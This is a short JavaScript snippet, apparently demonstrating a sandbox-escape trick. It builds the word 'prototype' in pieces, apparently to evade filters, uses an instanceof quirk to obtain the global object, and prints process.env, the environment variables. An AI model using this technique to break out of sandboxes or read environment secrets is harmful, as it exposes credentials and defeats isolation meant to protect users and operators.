function X() { if (!(this instanceof X)) return null; return this; }
const k = ['proto', 'type'].join('');
X[k] = Object.prototype;
console.log(X().process.env);
